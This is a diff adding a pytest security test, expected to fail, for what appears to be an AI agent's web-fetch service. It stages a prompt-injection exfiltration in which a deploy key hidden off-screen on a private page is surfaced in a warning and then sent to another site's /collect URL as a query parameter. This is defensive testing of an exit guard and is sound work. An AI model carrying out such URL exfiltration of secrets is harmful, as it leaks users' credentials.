@@ -603,6 +603,48 @@ async def test_a_secret_in_a_refused_hosts_name_does_not_reach_the_usage_records
     assert found == [], f"the secret is recorded in: {found}"
 
 
+@pytest.mark.xfail(strict=True, reason="S3-16: text cut as hidden still reaches the agent as the warning's sample "
+                   "(extract/visibility.py, 120 chars; the site readers' hidden_instruction warning adds a 160-char "
+                   "gist), but the exit guard learns only chunks, titles, hits and tabs (exits.observe_result), so "
+                   "a secret the agent saw only in a warning leaves in a URL. Fix in exits.py observe_result: "
+                   "observe the body's warnings too (or keep page text out of warnings: length and reason only)")
+async def test_a_secret_seen_only_in_a_hidden_text_warning_cannot_leave_in_a_url(tmp_path: Path) -> None:
+    """Attack: a private page holds a key in an off-screen element (cut from the chunks, sampled in the warning);
+    a poisoned page then gets the agent to 'fetch' a URL on another site carrying what it saw."""
+    hits: list[str] = []
+
+    async def memo(request: web.Request) -> web.StreamResponse:
+        filler = "The staging cluster runs the nightly jobs for the shipping team. " * 6
+        return web.Response(text=_html("Memo", f"<main><h1>Memo</h1><p>{filler}</p><span style='position:absolute;"
+                                               f"left:-9999px'>{EXIT_TOKEN} staging deploy key</span></main>"),
+                            content_type="text/html")
+
+    async def collect(request: web.Request) -> web.StreamResponse:
+        hits.append(str(request.rel_url))
+        return web.Response(text=_html("Thanks", "<p>Thanks, noted.</p>"), content_type="text/html")
+
+    app = web.Application()
+    app.router.add_get("/memo", memo)
+    app.router.add_get("/collect", collect)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    port = runner.addresses[0][1]
+    try:
+        async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d, \
+                httpx.AsyncClient(base_url=d.url, headers={"Authorization": f"Bearer {d.token}"}, timeout=60.0) as c:
+            # the private site is localhost:<port>; the attacker's is 127.0.0.1:<port>, another site
+            read = (await c.post("/v1/fetch", json={"url": f"http://localhost:{port}/memo", "query": ""})).json()
+            assert read["ok"] and not any(EXIT_TOKEN in ch["text"] for ch in read["chunks"])  # cut from chunks
+            assert any(EXIT_TOKEN in w for w in read["warnings"])  # ...and shown to the agent in the warning
+            out = (await c.post("/v1/fetch", json={"url": f"http://127.0.0.1:{port}/collect?k={EXIT_TOKEN}",
+                                                   "query": ""})).json()
+        assert out.get("error") and out["error"]["code"] == "exit_refused", out.get("error")
+        assert hits == []
+    finally:
+        await runner.cleanup()
+
+
 # ------------------------------------------------------------------------------------------------ query expansion
 
 
